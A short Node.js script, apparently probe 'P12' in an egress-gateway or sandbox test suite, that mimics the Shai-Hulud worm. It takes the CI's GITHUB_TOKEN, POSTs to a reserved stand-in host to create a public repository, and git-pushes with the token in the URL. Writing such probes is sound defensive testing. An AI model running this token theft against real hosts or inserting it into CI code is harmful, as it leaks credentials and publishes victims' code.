// P12 in Node: use the CI's GITHUB_TOKEN the way Shai-Hulud did — create a repository through the
// REST API, then push to it with the token in the URL. Both go to reserved names (the real API host
// is never named here); the gateway sinks the request, git's connection goes nowhere.
const http = require('http');
const { spawnSync } = require('child_process');
const token = process.env.GITHUB_TOKEN || process.env.GH_TOKEN || '';
const req = http.request({ host: 'api.github-mirror.invalid', path: '/user/repos', method: 'POST', headers: { authorization: `token ${token}`, 'content-type': 'application/json' }, timeout: 3000 }, (res) => res.resume());
req.on('error', () => {});
req.on('timeout', () => req.destroy());
req.end(JSON.stringify({ name: 'Shai-Hulud', private: false }));
spawnSync('git', ['push', `https://x-access-token:${token}@git.github-mirror.invalid/victim/Shai-Hulud.git`, 'HEAD:main'], { stdio: 'ignore', timeout: 5000 });
